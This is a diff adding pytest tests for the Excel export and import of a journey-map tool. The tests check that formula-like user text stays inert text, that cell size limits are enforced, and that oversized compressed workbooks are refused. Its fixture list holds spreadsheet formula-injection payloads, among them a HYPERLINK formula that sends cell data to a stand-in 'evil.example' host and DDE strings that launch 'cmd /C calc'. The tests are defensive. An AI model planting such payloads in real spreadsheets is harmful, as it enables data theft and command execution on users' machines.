@@ -8,7 +8,8 @@ from openpyxl import Workbook, load_workbook
 from journeyscope.errors import DocumentError
 from journeyscope.maps.api import new_from_template
 from journeyscope.maps.excel import export_xlsx, import_xlsx
-from journeyscope.maps.model import Item
+from journeyscope.maps.io import to_plain
+from journeyscope.maps.model import Item, JourneyMap
 from journeyscope.maps.text import Localized
 from tests.conftest import template_ids
 
@@ -103,3 +104,104 @@ def test_a_workbook_that_is_not_a_map(tmp_path: Path) -> None:
     junk.write_text("not a zip", encoding="utf-8")
     with pytest.raises(DocumentError, match=r"cannot open it as \.xlsx"):
         import_xlsx(junk)
+
+
+FORMULA_LIKE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+84903123456",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "'=already quoted by the user",
+    "'plain text after a quote",
+]
+
+
+def _with_texts(texts: list[str]) -> JourneyMap:
+    data = to_plain(new_from_template("retail-current-state"))
+    data["title"] = {"en": texts[0], "vi": texts[1]}
+    data["description"] = texts[2]
+    data["stages"][0]["name"] = texts[3]
+    first = data["stages"][0]["id"]
+    data["lanes"][0]["cells"][first] = texts
+    data["lanes"][1]["cells"][first] = [{"text": t, "channel": "zalo"} for t in texts]
+    data["emotions"][0]["points"][first] = {"score": -1.5, "note": texts[0]}
+    return JourneyMap.model_validate(data)
+
+
+def test_user_text_is_never_a_formula_and_comes_back_exactly(tmp_path: Path) -> None:
+    m = _with_texts(FORMULA_LIKE)
+    path = tmp_path / "map.xlsx"
+    path.write_bytes(export_xlsx(m))
+    wb = load_workbook(path)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+    risky = [c for c in cells if isinstance(c.value, str) and c.value[0] in "=+-@\t\r'＝"]
+    assert len(risky) >= len(FORMULA_LIKE)
+    assert all(c.quotePrefix for c in risky), "Excel must keep showing them as text"
+    assert import_xlsx(path) == m
+
+
+def test_an_edited_grid_keeps_leading_spaces_tabs_and_quotes(tmp_path: Path) -> None:
+    path = tmp_path / "map.xlsx"
+    path.write_bytes(export_xlsx(_with_texts(FORMULA_LIKE)))
+    wb = load_workbook(path)
+    ws = wb["Map (en)"]
+    rows = {ws.cell(r, 1).value: r for r in range(6, ws.max_row + 1)}
+    ws.cell(rows["goals"], 4).value = "'=typed with a quote"  # an edit: read from the text
+    wb.save(path)
+    back = import_xlsx(path)
+    goals = next(lane for lane in back.lanes if lane.id == "goals")
+    assert goals.cells["awareness"] == FORMULA_LIKE
+    assert goals.cells["interest"] == [
+        Localized(en="'=typed with a quote", vi="Biết giá thật, size và chất liệu")
+    ]
+
+
+def test_a_big_structure_is_split_over_cells_excel_can_hold(tmp_path: Path) -> None:
+    data = to_plain(new_from_template("retail-current-state"))
+    first = data["stages"][0]["id"]
+    data["lanes"][0]["cells"][first] = [f"ý kiến {i} " + "🙂" * 500 for i in range(40)]
+    m = JourneyMap.model_validate(data)
+    path = tmp_path / "map.xlsx"
+    try:
+        path.write_bytes(export_xlsx(m))
+    except DocumentError as exc:  # the grid cell itself is over the limit
+        assert "more than an Excel cell holds" in exc.message_en
+        assert exc.location is not None and exc.location.field == f"lanes.goals.cells.{first}"
+        data["lanes"][0]["cells"][first] = data["lanes"][0]["cells"][first][:20]
+        m = JourneyMap.model_validate(data)
+        path.write_bytes(export_xlsx(m))
+    meta = load_workbook(path)["journeyscope"]
+    pieces = [meta.cell(r, 1).value for r in range(2, meta.max_row + 1)]
+    assert len(pieces) > 1
+    assert all(len(str(p).encode("utf-16-le")) // 2 <= 32_767 for p in pieces)
+    assert import_xlsx(path) == m
+
+
+def test_text_excel_cannot_hold_is_refused_before_writing() -> None:
+    data = to_plain(new_from_template("retail-current-state"))
+    first = data["stages"][0]["id"]
+    data["lanes"][0]["cells"][first] = ["x" * 9_000] * 4
+    with pytest.raises(DocumentError) as info:
+        export_xlsx(JourneyMap.model_validate(data))
+    assert "32,767" in info.value.message_en and "32,767" in info.value.message_vi
+    data["lanes"][0]["cells"][first] = ["bell \x07 character"]
+    with pytest.raises(DocumentError, match="U\\+0007"):
+        export_xlsx(JourneyMap.model_validate(data))
+
+
+def test_a_workbook_too_large_for_a_map_is_refused_unread(tmp_path: Path) -> None:
+    import zipfile
+
+    from journeyscope.maps.excel import MAX_MAP_WORKBOOK_BYTES
+
+    path = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/worksheets/sheet1.xml", b" " * (MAX_MAP_WORKBOOK_BYTES + 1))
+    assert path.stat().st_size < 1_000_000
+    with pytest.raises(DocumentError) as info:
+        import_xlsx(path)
+    assert "unpacks to" in info.value.message_en and info.value.message_vi
